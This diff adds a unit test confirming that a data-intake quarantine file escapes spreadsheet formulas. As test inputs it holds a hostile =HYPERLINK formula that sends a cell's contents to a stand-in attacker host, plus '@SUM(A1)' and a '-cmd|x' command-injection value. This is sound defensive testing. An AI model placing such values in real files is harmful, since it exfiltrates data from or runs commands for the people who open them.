@@ -233,3 +233,21 @@ def test_the_quarantine_holds_the_source_columns_not_the_joins(tmp_path) -> None
         REJECTED_REASONS,
     ]
     assert "source column 'DAY + TIME'" in rejected[REJECTED_REASONS].item()
+
+
+def test_the_quarantine_file_holds_no_cell_a_spreadsheet_would_run(tmp_path) -> None:
+    """A hostile declaration's =HYPERLINK(...) or @SUM(...) was written as is into the file an
+    analyst opens (probe); signed numbers stay as written."""
+    from features.intake.io import spreadsheet_safe
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    source = _export(tmp_path, link=(3, "DESC", hostile), sum=(4, "ID", "@SUM(A1)"))
+    frame = pd.read_csv(source, sep=";", dtype=str)
+    frame.loc[[3, 4], "VAL"] = "douze"
+    frame.to_csv(source, sep=";", index=False)
+    _ingest(tmp_path, source, quarantine=tmp_path / "rejected.csv")
+    rejected = pd.read_csv(tmp_path / "rejected.csv", dtype=str, keep_default_na=False)
+    assert rejected["DESC"].iloc[0] == "'" + hostile and rejected["ID"].iloc[1] == "'@SUM(A1)"
+    cells = pd.DataFrame({"a": ["-5", "+3.2", "-cmd|x", "\tx", None], "n": [1, 2, 3, 4, 5]})
+    safe = spreadsheet_safe(cells)["a"]
+    assert safe.iloc[:4].tolist() == ["-5", "+3.2", "'-cmd|x", "'\tx"] and pd.isna(safe.iloc[4])
